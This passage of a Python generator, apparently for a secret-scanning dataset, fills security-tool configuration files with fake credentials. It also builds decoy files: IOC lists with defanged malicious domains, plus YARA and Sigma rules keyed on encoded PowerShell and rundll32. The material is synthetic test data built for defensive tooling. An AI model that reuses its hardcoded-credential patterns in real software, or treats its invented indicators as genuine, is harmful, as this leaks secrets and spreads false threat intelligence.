  | jq -r '.data.affected_items[] | [.id,.name,.ip,.lastKeepAlive] | @tsv'
''', V=v, HOST=pick(r, ["wazuh-manager", "wazuh." + corp(r)]))


@P("wazuh", "agent_key", "conf", "WAZUH_AGENT_KEY", g_hex64, "neutral")
def wazuh_client_keys(r, v, c):
    aid = "%03d" % r.randint(1, 900)
    return pick(r, ["wazuh/agent/client.keys", "ansible/roles/wazuh_agent/files/client.keys"]), fill('''
⟦AID⟧ ⟦HOST⟧ any ⟦V⟧
''', AID=aid, HOST=pick(r, HOSTS), V=v)


@P("wazuh", "enrollment_password", "yaml", "WAZUH_REGISTRATION_PASSWORD", g_an32, "neutral")
def wazuh_enroll(r, v, c):
    return pick(r, ["ansible/group_vars/all/wazuh_agent.yml", "roles/wazuh-agent/vars/main.yml"]), fill('''
---
wazuh_managers:
  - address: wazuh.⟦DOM⟧
    port: 1514
    protocol: tcp
    api_port: 55000
    api_proto: https
wazuh_agent_authd:
  registration_address: wazuh.⟦DOM⟧
  enable: true
  port: 1515
  ssl_agent_ca: null
  ssl_auto_negotiate: "no"
authd_pass: "⟦V⟧"
wazuh_agent_config:
  syscheck:
    frequency: 43200
''', DOM=corp(r), V=v)


@P("wazuh", "private_key", "yaml", "FILEBEAT_SSL_KEY", g_pem_first, "multiline_key")
def wazuh_pem(r, v, c):
    if c.neg:
        key = "filebeat_ssl_key: \"%s\"" % (str(v) if v != "" else "")
    else:
        lines = v.split("\n")
        key = "filebeat_ssl_key: |\n  -----BEGIN PRIVATE KEY-----\n" + "\n".join("  " + l for l in lines) + "\n  -----END PRIVATE KEY-----"
    return pick(r, ["ansible/host_vars/wazuh-manager-01.yml", "inventory/host_vars/wazuh1.yml"]), fill('''
---
filebeat_output_indexer_hosts:
  - "⟦IP⟧:9200"
filebeat_ssl_certificate_authorities: /etc/filebeat/certs/root-ca.pem
filebeat_ssl_certificate: /etc/filebeat/certs/filebeat.pem
⟦KEY⟧
indexer_node_name: node-1
''', IP=int_ip(r), KEY=key)


# ---------------------------------------------------------------- Elastic
ES_DOC_ENC = "VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw=="
ES_DOC_PAIR = "VuaCfGcBCdbkQm-e5aOx:ui2lp2axTNmsyakw9tvNnw"


@P("elastic", "api_key", "yaml", "ES_API_KEY", g_elastic_pair, "conventional", docex=[ES_DOC_PAIR, "id:api_key"])
def es_filebeat(r, v, c):
    return pick(r, ["filebeat/filebeat.yml", "deploy/beats/filebeat.yml"]), fill('''
filebeat.inputs:
  - type: filestream
    id: suricata-eve
    paths:
      - /var/log/suricata/eve.json
    parsers:
      - ndjson:
          target: ""
filebeat.modules:
  - module: zeek
    connection:
      enabled: true
output.elasticsearch:
  hosts: ["https://es01.⟦DOM⟧:9200"]
  api_key: "⟦V⟧"
  ssl.certificate_authorities: ["/etc/filebeat/ca.crt"]
setup.ilm.enabled: false
''', DOM=corp(r), V=v)


@P("elastic", "api_key", "py", "ES_API_KEY", g_elastic_enc, "ctor_arg", docex=[ES_DOC_ENC])
def es_py(r, v, c):
    return pick(r, ["detections/deploy_rules.py", "scripts/es_hunt.py"]), fill('''
import json
import os

from elasticsearch import Elasticsearch

es = Elasticsearch(
    cloud_id="⟦T⟧-siem:⟦CLOUD⟧",
    api_key=⟦V⟧,
    request_timeout=60,
)

query = {
    "bool": {
        "filter": [
            {"term": {"event.code": "4625"}},
            {"range": {"@timestamp": {"gte": "now-1h"}}},
        ]
    }
}
resp = es.search(index="logs-system.security-*", query=query, size=0,
                 aggs={"by_src": {"terms": {"field": "source.ip", "size": 20}}})
print(json.dumps(resp["aggregations"]["by_src"]["buckets"], indent=2))
''', T=tenant(r), CLOUD=base64.b64encode(("%s$%s$%s" % (pick(r, ["eu-west-1.aws.found.io:443", "us-central1.gcp.cloud.es.io:443", "westeurope.azure.elastic-cloud.com:443"]), hx(r, 32), hx(r, 32))).encode()).decode(), V=c.q(v))


@P("elastic", "password", "yaml", "KIBANA_SYSTEM_PASSWORD", g_elastic_pw, "conventional")
def es_kibana(r, v, c):
    return pick(r, ["kibana/kibana.yml", "config/kibana.yml"]), fill('''
server.host: "0.0.0.0"
server.publicBaseUrl: "https://kibana.⟦DOM⟧"
elasticsearch.hosts: ["https://es01:9200", "https://es02:9200"]
elasticsearch.username: "kibana_system"
elasticsearch.password: "⟦V⟧"
elasticsearch.ssl.certificateAuthorities: ["/usr/share/kibana/config/certs/ca.crt"]
xpack.encryptedSavedObjects.encryptionKeyRotation: false
xpack.securitySolution.maxRuleImportExportSize: 10000
monitoring.ui.container.elasticsearch.enabled: true
''', DOM=corp(r), V=v)


@P("elastic", "api_key", "yaml", "ELASTIC_API_KEY", g_elastic_enc, "conventional", docex=[ES_DOC_ENC])
def es_gha(r, v, c):
    return ".github/workflows/deploy-detections.yml", fill('''
name: deploy-detections
on:
  push:
    branches: [main]
    paths: ["rules/**"]
jobs:
  deploy:
    runs-on: ubuntu-latest
    env:
      KIBANA_URL: https://kibana.⟦DOM⟧
      ELASTIC_API_KEY: "⟦V⟧"
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install detection-rules==0.4.2
      - run: python -m detection_rules kibana --space soc import-rules -d rules/
''', DOM=corp(r), V=v)


@P("elastic", "api_key", "sh", "ES_API_KEY", g_elastic_enc, "header", docex=[ES_DOC_ENC])
def es_curl(r, v, c):
    return pick(r, ["scripts/es_snapshot.sh", "ops/es-cluster-health.sh"]), fill('''
#!/usr/bin/env bash
ES=https://es01.⟦DOM⟧:9200
AUTH="Authorization: ApiKey ⟦V⟧"
curl -s --cacert /etc/ssl/soc-ca.pem -H "$AUTH" "$ES/_cluster/health?pretty"
curl -s --cacert /etc/ssl/soc-ca.pem -H "$AUTH" -X PUT "$ES/_snapshot/s3-soc/nightly-$(date +%F)?wait_for_completion=false"
''', DOM=corp(r), V=v)


# ---------------------------------------------------------------- Splunk SOAR / HEC
@P("splunk-soar", "ph_auth_token", "py", "SOAR_AUTH_TOKEN", g_soar, "header", docex=["<ph-auth-token-value>"])
def soar_py(r, v, c):
    return pick(r, ["soar/scripts/bulk_close_containers.py", "tools/soar_export.py"]), fill('''
import os
import requests

SOAR = "https://soar.⟦DOM⟧"
HEADERS = {"ph-auth-token": ⟦V⟧}


def containers(status="new", page_size=200):
    url = f"{SOAR}/rest/container"
    params = {"_filter_status": f'"{status}"', "page_size": page_size}
    resp = requests.get(url, headers=HEADERS, params=params, verify="/etc/ssl/soc-ca.pem", timeout=60)
    resp.raise_for_status()
    return resp.json()["data"]


for cont in containers():
    if cont["label"] == "test":
        requests.post(f"{SOAR}/rest/container/{cont['id']}", headers=HEADERS,
                      json={"status": "closed"}, verify="/etc/ssl/soc-ca.pem", timeout=60)
''', DOM=corp(r), V=c.q(v))


@P("splunk-soar", "ph_auth_token", "json", "SOAR_AUTH_TOKEN", g_soar, "neutral", docex=["<ph-auth-token-value>"])
def soar_json(r, v, c):
    return pick(r, ["soar/automation_user.json", "config/soar-automation.json"]), fill('''
{
  "ph-auth-token": "⟦V⟧",
  "server": "https://soar.⟦DOM⟧",
  "user": "automation",
  "allowed_ips": ["⟦IP⟧"],
  "default_label": "events"
}
''', V=v, DOM=corp(r), IP=int_ip(r))


@P("splunk", "hec_token", "yaml", "SPLUNK_HEC_TOKEN", g_uuid_up, "conventional")
def hec_otel(r, v, c):
    return pick(r, ["otel/collector.yaml", "deploy/otel-collector/config.yaml"]), fill('''
receivers:
  filelog:
    include: [/var/log/suricata/eve.json]
    operators:
      - type: json_parser
processors:
  batch:
    timeout: 5s
exporters:
  splunk_hec:
    token: "⟦V⟧"
    endpoint: "https://hec.⟦DOM⟧:8088/services/collector"
    source: "otel"
    sourcetype: "suricata:eve"
    index: "ids"
    tls:
      insecure_skip_verify: false
service:
  pipelines:
    logs:
      receivers: [filelog]
      processors: [batch]
      exporters: [splunk_hec]
''', V=v, DOM=corp(r))


@P("splunk", "hec_token", "sh", "SPLUNK_HEC_TOKEN", g_uuid_up, "header")
def hec_curl(r, v, c):
    return pick(r, ["scripts/send_test_event.sh", "bin/hec-smoke-test.sh"]), fill('''
#!/bin/sh
# smoke test for the HEC endpoint after a cert rotation
curl -s "https://hec.⟦DOM⟧:8088/services/collector/event" \\
  -H "Authorization: Splunk ⟦V⟧" \\
  -d '{"event": {"msg": "hec smoke test", "host": "'"$(hostname)"'"}, "sourcetype": "soc:test", "index": "soc_test"}'
echo
''', DOM=corp(r), V=v)


# ---------------------------------------------------------------- Tines
TINES_DOC = ["https://your-tenant.tines.com/webhook/eb7f40dbc217bfd8c4a5a843611a3b2d/c9e648cdf08204c3aa9784fe2efa2e61",
             "https://tenant.tines.com/webhook/<path>/<secret>"]


@P("tines", "webhook_url", "py", "TINES_WEBHOOK_URL", g_tines_url, "url", docex=TINES_DOC)
def tines_py(r, v, c):
    return pick(r, ["forwarders/edr_to_tines.py", "lambda/forward_alerts.py"]), fill('''
import json
import os
import urllib.request


def handler(event, context):
    """EventBridge -> Tines story ("EDR alert intake")."""
    for record in event.get("Records", []):
        alert = json.loads(record["body"])
        req = urllib.request.Request(
            ⟦V⟧,
            data=json.dumps(alert).encode(),
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        with urllib.request.urlopen(req, timeout=10) as resp:
            print(resp.status, alert.get("id"))
    return {"ok": True}
''', V=c.q(v))


@P("tines", "webhook_url", "yaml", "TINES_WEBHOOK_URL", g_tines_url, "url", docex=TINES_DOC)
def tines_elastalert(r, v, c):
    return pick(r, ["elastalert/rules/brute_force.yaml", "rules/ssh_bruteforce.yaml"]), fill('''
name: SSH brute force followed by success
type: frequency
index: logs-system.auth-*
num_events: 20
timeframe:
  minutes: 5
filter:
  - term:
      event.outcome: failure
query_key: source.ip
alert:
  - post2
http_post2_url: "⟦V⟧"
http_post2_payload:
  rule: "{{ rule.name }}"
  source_ip: "{{ source.ip }}"
  host: "{{ host.name }}"
http_post2_timeout: 10
''', V=v)


@P("tines", "webhook_url", "conf", "TINES_WEBHOOK_URL", g_tines_url, "url", docex=TINES_DOC)
def tines_savedsearch(r, v, c):
    return pick(r, ["splunk/apps/soc_alerts/local/savedsearches.conf", "apps/TA-soc/default/savedsearches.conf"]), fill('''
[SOC - Impossible travel]
search = index=o365 sourcetype=o365:management:activity Operation=UserLoggedIn \\
| iplocation ClientIP | stats dc(Country) as countries values(Country) by UserId \\
| where countries > 1
cron_schedule = */15 * * * *
dispatch.earliest_time = -15m
enableSched = 1
alert.track = 1
action.webhook = 1
action.webhook.param.url = ⟦V⟧
alert.severity = 4
''', V=v)


# ---------------------------------------------------------------- Torq
@P("torq", "webhook_auth_header", "py", "TORQ_WEBHOOK_SECRET", g_torq, "header")
def torq_py(r, v, c):
    return pick(r, ["forwarders/to_torq.py", "scripts/torq_trigger.py"]), fill('''
import os
import requests

TORQ_HOOK = "https://hooks.torq.io/v1/webhooks/⟦UID⟧"
TORQ_HEADER = ("X-Torq-Auth", ⟦V⟧)


def trigger(event):
    name, value = TORQ_HEADER
    r = requests.post(TORQ_HOOK, json=event, headers={name: value}, timeout=10)
    r.raise_for_status()
    return r.text
''', UID=uuid4(r), V=c.q(v))


@P("torq", "webhook_auth_header", "yaml", "TORQ_WEBHOOK_SECRET", g_torq, "header")
def torq_yaml(r, v, c):
    return pick(r, ["config/outputs.yaml", "alert-router/routes.yaml"]), fill('''
routes:
  - match: {severity: [critical, high]}
    output: torq
  - match: {source: [phishing-mailbox]}
    output: torq
outputs:
  torq:
    url: https://hooks.torq.io/v1/webhooks/⟦UID⟧/workflows/⟦WID⟧/sync
    headers:
      X-Torq-Auth: "⟦V⟧"
    timeout_seconds: 15
  archive:
    type: s3
    bucket: soc-alert-archive-⟦T⟧
''', UID=uuid4(r), WID=uuid4(r), V=v, T=tenant(r))


# ---------------------------------------------------------------- PagerDuty
PD_DOC = ["r3FPuDvNOTEDyQYCc7trBkymIFcy2NkE", "samplekeyhere", "routingkeyhere"]


@P("pagerduty", "routing_key", "py", "PAGERDUTY_ROUTING_KEY", g_pd_routing, "positional", docex=PD_DOC)
def pd_py(r, v, c):
    return pick(r, ["alerting/page_oncall.py", "soar/notify_pagerduty.py"]), fill('''
import os
import pdpyras

session = pdpyras.EventsAPISession(⟦V⟧)


def page(summary, source, severity="critical", dedup=None, details=None):
    return session.trigger(summary, source, dedup_key=dedup, severity=severity,
                           custom_details=details or {})


if __name__ == "__main__":
    page("Ransomware canary file modified", "⟦HOST⟧", details={"playbook": "ransomware-canary"})
''', V=c.q(v), HOST=pick(r, HOSTS))


@P("pagerduty", "routing_key", "yaml", "PAGERDUTY_ROUTING_KEY", g_pd_routing, "conventional", docex=PD_DOC)
def pd_alertmanager(r, v, c):
    return pick(r, ["alertmanager/alertmanager.yml", "monitoring/alertmanager.yml"]), fill('''
global:
  resolve_timeout: 5m
route:
  receiver: soc-default
  group_by: [alertname, cluster]
  routes:
    - matchers: [severity="critical"]
      receiver: soc-pager
receivers:
  - name: soc-default
    email_configs:
      - to: soc@⟦DOM⟧
  - name: soc-pager
    pagerduty_configs:
      - routing_key: "⟦V⟧"
        severity: critical
        description: '{{ .CommonAnnotations.summary }}'
''', DOM=corp(r), V=v)


@P("pagerduty", "api_key", "tf", "PAGERDUTY_TOKEN", g_pd_api, "conventional", docex=["y_NbAkKc66ryYTWUXYEu"])
def pd_tf(r, v, c):
    return pick(r, ["terraform/pagerduty/main.tf", "infra/oncall/pagerduty.tf"]), fill('''
provider "pagerduty" {
  token = ⟦V⟧
}

data "pagerduty_escalation_policy" "soc" {
  name = "SOC Tier 2"
}

resource "pagerduty_service" "edr" {
  name                    = "EDR critical detections"
  escalation_policy       = data.pagerduty_escalation_policy.soc.id
  acknowledgement_timeout = 600
  alert_creation          = "create_alerts_and_incidents"
}

resource "pagerduty_service_integration" "edr_events" {
  name    = "Events API v2"
  service = pagerduty_service.edr.id
  type    = "events_api_v2_inbound_integration"
}
''', V=c.q(v))


@P("pagerduty", "routing_key", "toml", "PAGERDUTY_ROUTING_KEY", g_pd_routing, "neutral", docex=PD_DOC)
def pd_toml(r, v, c):
    return pick(r, ["soc-cli/config.toml", "canary/config.toml"]), fill('''
[canary]
watch = ["/srv/share/finance", "/srv/share/hr"]
files = ["~$budget-2024.xlsx", "passwords-old.docx"]
interval = "30s"

[notify.pagerduty]
integration = "⟦V⟧"
severity = "critical"

[notify.email]
to = "soc@⟦DOM⟧"
''', V=v, DOM=corp(r))


# ---------------------------------------------------------------- Jira / Atlassian
@P("atlassian", "api_token", "py", "JIRA_API_TOKEN", g_jira, "positional", docex=["my-api-token", "your_api_token"])
def jira_py(r, v, c):
    return pick(r, ["ticketing/open_incident.py", "soar/jira_ticket.py"]), fill('''
import os
from jira import JIRA

jira = JIRA(server="https://⟦T⟧.atlassian.net", basic_auth=("⟦EM⟧", ⟦V⟧))


def open_incident(title, severity, description):
    fields = {
        "project": {"key": "SOC"},
        "summary": title,
        "description": description,
        "issuetype": {"name": "Incident"},
        "labels": ["auto", f"sev-{severity}"],
    }
    issue = jira.create_issue(fields=fields)
    return issue.key
''', T=tenant(r), EM=email(r), V=c.q(v))


@P("atlassian", "api_token", "yaml", "JIRA_API_TOKEN", g_jira, "neutral", docex=["my-api-token"])
def jira_elastalert_acct(r, v, c):
    return pick(r, ["elastalert/jira_acct.yaml", "rules/secrets/jira_acct.yaml"]), fill('''
# referenced by jira_account_file in the ElastAlert rules
user: ⟦EM⟧
password: "⟦V⟧"
''', EM=email(r), V=v)


@P("atlassian", "api_token", "properties", "JIRA_API_TOKEN", g_jira, "conventional", docex=["my-api-token"])
def jira_props(r, v, c):
    return pick(r, ["soc-bridge/src/main/resources/application.properties", "src/main/resources/application-prod.properties"]), fill('''
spring.application.name=soc-bridge
server.port=8085
jira.base-url=https://⟦T⟧.atlassian.net
jira.user=⟦EM⟧
jira.api-token=⟦V⟧
jira.project-key=SOC
thehive.url=https://thehive.⟦DOM⟧
management.endpoints.web.exposure.include=health,info
''', T=tenant(r), EM=email(r), V=v, DOM=corp(r))


@P("atlassian", "api_token", "sh", "JIRA_API_TOKEN", g_jira, "basic_auth", docex=["my-api-token"])
def jira_curl(r, v, c):
    return pick(r, ["scripts/jira_comment.sh", "bin/add-ir-comment.sh"]), fill('''
#!/usr/bin/env bash
# usage: add-ir-comment.sh SOC-123 "containment done"
set -eu
issue="$1"; shift
curl -s -u "⟦EM⟧:⟦V⟧" \\
  -H "Content-Type: application/json" \\
  -X POST "https://⟦T⟧.atlassian.net/rest/api/3/issue/${issue}/comment" \\
  --data "{\\"body\\":{\\"type\\":\\"doc\\",\\"version\\":1,\\"content\\":[{\\"type\\":\\"paragraph\\",\\"content\\":[{\\"type\\":\\"text\\",\\"text\\":\\"$*\\"}]}]}}"
''', EM=email(r), V=v, T=tenant(r))


# ---------------------------------------------------------------- Slack
SLACK_DOC = ["https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
             "https://hooks.slack.com/services/T1234567/AAAAAAAA/ZZZZZZ"]


@P("slack", "webhook_url", "yaml", "SLACK_WEBHOOK_URL", g_slack, "conventional", docex=SLACK_DOC)
def slack_alertmanager(r, v, c):
    return pick(r, ["alertmanager/config.yml", "monitoring/alertmanager/alertmanager.yml"]), fill('''
global:
  slack_api_url: "⟦V⟧"
route:
  receiver: soc-slack
  group_wait: 30s
  repeat_interval: 4h
receivers:
  - name: soc-slack
    slack_configs:
      - channel: "#soc-alerts"
        send_resolved: true
        title: '{{ .CommonLabels.alertname }}'
        text: '{{ range .Alerts }}{{ .Annotations.description }}{{ "\\n" }}{{ end }}'
''', V=v)


@P("slack", "webhook_url", "py", "SLACK_WEBHOOK_URL", g_slack, "conventional", docex=SLACK_DOC)
def slack_py(r, v, c):
    return pick(r, ["notify/slack.py", "soar/utils/notify.py"]), fill('''
import json
import os
import urllib.request

SLACK_WEBHOOK_URL = ⟦V⟧
SEVERITY_EMOJI = {"critical": ":rotating_light:", "high": ":warning:", "medium": ":large_yellow_circle:"}


def notify(title, severity, link):
    text = f"{SEVERITY_EMOJI.get(severity, ':information_source:')} *{title}* ({severity})\\n<{link}|open case>"
    body = json.dumps({"text": text}).encode()
    req = urllib.request.Request(SLACK_WEBHOOK_URL, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)
''', V=c.q(v))


@P("slack", "webhook_url", "ps1", "SLACK_WEBHOOK_URL", g_slack, "url", docex=SLACK_DOC)
def slack_ps1(r, v, c):
    return pick(r, ["scripts/Send-SocNotification.ps1", "ir/Notify-Slack.ps1"]), fill('''
function Send-SocNotification {
    param(
        [Parameter(Mandatory)][string]$Message,
        [string]$Channel = '#soc-alerts'
    )
    $payload = @{ channel = $Channel; text = $Message; username = 'IR-Bot' } | ConvertTo-Json
    Invoke-RestMethod -Uri ⟦V⟧ -Method Post -Body $payload -ContentType 'application/json'
}

Send-SocNotification -Message "Host $env:COMPUTERNAME isolated by $env:USERNAME"
''', V=c.q(v))


@P("slack", "webhook_url", "go", "SLACK_WEBHOOK_URL", g_slack, "neutral", docex=SLACK_DOC)
def slack_go(r, v, c):
    return pick(r, ["internal/notify/slack.go", "pkg/alerts/notify.go"]), fill('''
package notify

import (
	"bytes"
	"encoding/json"
	"net/http"
	"os"
	"time"
)

var alertHook = ⟦V⟧

func Post(text string) error {
	b, _ := json.Marshal(map[string]string{"text": text})
	c := http.Client{Timeout: 10 * time.Second}
	resp, err := c.Post(alertHook, "application/json", bytes.NewReader(b))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		os.Stderr.WriteString("slack webhook returned " + resp.Status + "\\n")
	}
	return nil
}
''', V=c.q(v))


@P("slack", "webhook_url", "md", "SLACK_WEBHOOK_URL", g_slack, "url", docex=SLACK_DOC)
def slack_runbook(r, v, c):
    return pick(r, ["runbooks/ransomware.md", "docs/runbooks/host-isolation.md"]), fill('''
# Runbook: suspected ransomware on an endpoint

Owner: SOC Tier 2 - last reviewed ⟦D⟧

## 1. Contain
1. Isolate the host from the EDR console (Falcon: *Network contain*; S1: *Disconnect from network*).
2. Disable the user in Entra ID and revoke sessions.
3. Tell the channel:

```bash
curl -X POST -H 'Content-type: application/json' \\
  --data '{"text":"[IR] host <hostname> contained, ticket SOC-<id>"}' \\
  ⟦V⟧
```

## 2. Scope
- Search the last 24h of `DeviceFileEvents` for mass renames (see `hunting/mass_rename.kql`).
- Check shares mapped by the host.

## 3. Escalate
Page the IR lead through PagerDuty if more than one host is affected.
''', D=day(r), V=v)


@P("greynoise", "api_key", "env", "GREYNOISE_API_KEY", g_an64, "conventional", docex=["<<ApiKeyHeader>>"])
def gn_env(r, v, c):
    return c.envfile((".env", ".env.local")), fill('''
COMPOSE_PROJECT_NAME=noise-filter
GN_INTEGRATION=noise-filter
GREYNOISE_API_KEY=⟦V⟧
OUTPUT_TOPIC=fw-deny-filtered
KAFKA_BROKERS=kafka-1:9092,kafka-2:9092
''', V=v)


@P("sentinelone", "api_token", "yaml", "S1_API_TOKEN", g_s1, "conventional")
def s1_ansible(r, v, c):
    return pick(r, ["ansible/roles/s1_agent/defaults/main.yml", "group_vars/windows/sentinelone.yml"]), fill('''
---
s1_console_url: "https://⟦T⟧.sentinelone.net"
s1_site_token_file: files/site_token.txt
s1_api_token: "⟦V⟧"
s1_agent_version: "23.4.2.14"
s1_install_dir: 'C:\\Program Files\\SentinelOne'
s1_tags:
  - soc-managed
''', T=tenant(r), V=v)


# ============================================================================= negative look-alikes
# Each: fn(r) -> (relpath, text). Registered with a provider/kind label for the manifest.
NEG = []


def N(provider, kind):
    def deco(fn):
        NEG.append(dict(fn=fn, provider=provider, kind=kind, name=fn.__name__))
        return fn
    return deco


def md5(r):
    return hx(r, 32)


def sha1(r):
    return hx(r, 40)


def sha256(r):
    return hx(r, 64)


MALWARE = ["Emotet", "QakBot", "IcedID", "AsyncRAT", "AgentTesla", "Formbook", "LummaStealer",
           "RedLine", "Cobalt Strike", "Sliver", "PlugX", "BumbleBee", "SocGholish", "DarkGate"]
TECHNIQUES = [("T1059.001", "PowerShell"), ("T1566.001", "Spearphishing Attachment"),
              ("T1003.001", "LSASS Memory"), ("T1021.001", "Remote Desktop Protocol"),
              ("T1486", "Data Encrypted for Impact"), ("T1055", "Process Injection"),
              ("T1547.001", "Registry Run Keys / Startup Folder"), ("T1070.004", "File Deletion"),
              ("T1105", "Ingress Tool Transfer"), ("T1071.001", "Web Protocols"),
              ("T1218.011", "Rundll32"), ("T1053.005", "Scheduled Task"), ("T1110.003", "Password Spraying"),
              ("T1078.004", "Cloud Accounts"), ("T1027", "Obfuscated Files or Information")]


def cve(r):
    return "CVE-%d-%d" % (r.randint(2017, 2024), r.randint(1000, 52000))


@N("ioc", "ioc_csv")
def n_ioc_csv(r):
    rows = ["type,value,first_seen,confidence,source,tags"]
    fam = pick(r, MALWARE)
    for _ in range(r.randint(10, 18)):
        k = r.randrange(6)
        if k == 0:
            t, val = "md5", md5(r)
        elif k == 1:
            t, val = "sha1", sha1(r)
        elif k == 2:
            t, val = "sha256", sha256(r)
        elif k == 3:
            t, val = "ipv4", pub_ip(r)
        elif k == 4:
            t, val = "domain", evil_domain(r)
        else:
            t, val = "url", "hxxps://%s/%s/%s.php" % (evil_domain(r), pick(r, WORDS), rs(r, 6, LO))
        rows.append("%s,%s,%s,%d,%s,%s" % (t, val, day(r), r.choice([50, 70, 85, 95]), pick(r, ["abuse.ch", "internal-ir", "isac", "osint"]), fam.lower().replace(" ", "-")))
    return pick(r, ["intel/iocs/%s.csv" % fam.lower().replace(" ", "_"), "ti/feeds/weekly_iocs.csv"]), "\n".join(rows) + "\n"


@N("yara", "yara_rule")
def n_yara(r):
    fam = pick(r, MALWARE).replace(" ", "_")
    hexs = []
    for i in range(r.randint(3, 5)):
        b = " ".join(rs(r, 2, "0123456789ABCDEF") for _ in range(r.randint(10, 20)))
        if r.random() < 0.4:
            parts = b.split(" ")
            parts[4] = "??"
            parts[7] = "[2-4]"
            b = " ".join(parts)
        hexs.append("        $h%d = { %s }" % (i, b))
    return pick(r, ["yara/rules/%s.yar" % fam.lower(), "detections/yara/%s_loader.yara" % fam.lower()]), fill('''
rule ⟦FAM⟧_Loader_⟦Y⟧
{
    meta:
        author = "SOC detection engineering"
        description = "Detects ⟦FAM⟧ loader stage"
        date = "⟦D⟧"
        reference = "internal IR-⟦IR⟧"
        hash1 = "⟦H1⟧"
        hash2 = "⟦H2⟧"
        tlp = "amber"
    strings:
⟦HEX⟧
        $s1 = "⟦S1⟧" ascii wide
        $s2 = { 4D 5A }
    condition:
        uint16(0) == 0x5A4D and filesize < 2MB and 2 of ($h*) and $s1
}
''', FAM=fam, Y=r.randint(2022, 2024), D=day(r), IR=r.randint(100, 999), H1=sha256(r), H2=sha256(r),
                HEX="\n".join(hexs), S1=pick(r, ["\\\\AppData\\\\Roaming\\\\", "cmd.exe /c ping 127.0.0.1 -n", "rundll32.exe %s,DllRegisterServer" % rs(r, 6, LO)]))


@N("sigma", "sigma_rule")
def n_sigma(r):
    tid, tname = pick(r, TECHNIQUES)
    return pick(r, ["sigma/rules/windows/proc_creation_%s.yml" % rs(r, 6, LO), "detections/sigma/%s.yml" % tname.lower().replace(" ", "_").replace("/", "")]), fill('''
title: Suspicious ⟦TN⟧ Activity
id: ⟦ID⟧
related:
  - id: ⟦RID⟧
    type: derived
status: experimental
description: Detects ⟦TN⟧ usage seen during IR-⟦IR⟧
references:
  - https://attack.mitre.org/techniques/⟦TURL⟧/
author: SOC
date: ⟦D⟧
tags:
  - attack.⟦TL⟧
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\\⟦IMG⟧'
    CommandLine|contains:
      - ' -enc '
      - 'FromBase64String'
  filter_sccm:
    ParentImage|endswith: '\\CcmExec.exe'
  condition: selection and not filter_sccm
falsepositives:
  - Admin scripts
level: high
''', TN=tname, ID=uuid4(r), RID=uuid4(r), IR=r.randint(100, 999), TURL=tid.replace(".", "/"), D=day(r).replace("-", "/"),
                TL=tid.lower(), IMG=pick(r, ["powershell.exe", "rundll32.exe", "mshta.exe", "wscript.exe"]))


@N("mitre", "cve_table")
def n_cve_md(r):
    rows = ["| CVE | CVSS | Vector | Product | Exploited | Ticket |", "|---|---|---|---|---|---|"]
    for _ in range(r.randint(6, 12)):
        rows.append("| %s | %.1f | CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H | %s | %s | VULN-%d |" % (
            cve(r), r.uniform(6.5, 10.0), pick(r, ["Ivanti Connect Secure", "Citrix NetScaler", "Fortinet FortiOS", "MOVEit Transfer", "Confluence", "Exchange", "PAN-OS", "Jenkins"]),
            pick(r, ["yes (KEV)", "no", "PoC public"]), r.randint(1000, 9999)))
    return pick(r, ["docs/vuln/weekly-%s.md" % day(r), "reports/kev-tracking.md"]), "# Exposure tracking - %s\n\n" % day(r) + "\n".join(rows) + "\n\nSource: CISA KEV, vendor advisories.\n"


@N("mitre", "attack_mapping")
def n_attack_yaml(r):
    out = ["# detection coverage map (generated %s)" % day(r), "coverage:"]
    for tid, tname in r.sample(TECHNIQUES, r.randint(5, 9)):
        out.append("  - technique: %s" % tid)
        out.append("    name: \"%s\"" % tname)
        out.append("    detections:")
        for _ in range(r.randint(1, 3)):
            out.append("      - id: %s" % pick(r, [uuid4(r), "DET-%04d" % r.randint(1, 9999), "ES-%s" % hx(r, 8)]))
        out.append("    data_sources: [\"%s\"]" % pick(r, ["Process Creation", "Network Traffic", "Windows Registry", "File Modification"]))
    return pick(r, ["coverage/attack_map.yml", "detections/coverage.yaml"]), "\n".join(out) + "\n"


@N("report", "sample_hashes")
def n_report(r):
    fam = pick(r, MALWARE)
    hashes = "\n".join("| `%s` | %s | %s |" % (sha256(r), pick(r, ["invoice_%d.iso" % r.randint(100, 999), "update.dll", "setup.msi", "doc_%s.lnk" % rs(r, 4, LO)]), pick(r, ["loader", "payload", "dropper"])) for _ in range(r.randint(3, 6)))
    return pick(r, ["reports/IR-%d.md" % r.randint(1000, 9999), "docs/incidents/%s-%s.md" % (day(r), fam.lower().replace(" ", "-"))]), fill('''
# Incident report IR-⟦N⟧: ⟦FAM⟧ infection on ⟦HOST⟧

**Status:** closed  **Severity:** high  **Lead:** ⟦AN⟧

## Summary
A user opened a malicious attachment on ⟦D⟧. The EDR blocked the second stage; no lateral
movement was observed. C2 traffic to `⟦C2⟧` (⟦IP⟧) was sinkholed at the proxy.

## Samples
| SHA-256 | File name | Role |
|---|---|---|
⟦HASHES⟧

MD5 of the first stage: `⟦MD5⟧`; imphash `⟦IMP⟧`.

## Timeline (UTC)
- ⟦T1⟧ attachment opened
- ⟦T2⟧ EDR detection ⟦DET⟧
- ⟦T3⟧ host contained
''', N=r.randint(1000, 9999), FAM=fam, HOST=pick(r, HOSTS), AN=pick(r, ANALYSTS), D=day(r), C2=evil_domain(r),
                IP=pub_ip(r), HASHES=hashes, MD5=md5(r), IMP=md5(r), T1=iso(r), T2=iso(r), T3=iso(r),
                DET="ldt:%s:%d" % (hx(r, 32), r.randint(10 ** 9, 10 ** 11)))


@N("pgp", "public_key")
def n_pgp(r):
    body = base64.b64encode(b"\x99\x01\x8d\x04" + rbytes(r, 900)).decode()
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    crc = "=" + base64.b64encode(rbytes(r, 3)).decode()
    fpr = " ".join(rs(r, 4, "0123456789ABCDEF") for _ in range(10))
    return pick(r, ["keys/soc-team.asc", "docs/security/pgp-key.asc", ".well-known/pgp-key.txt"]), fill('''
Security team public key - use it to encrypt reports to soc@⟦DOM⟧
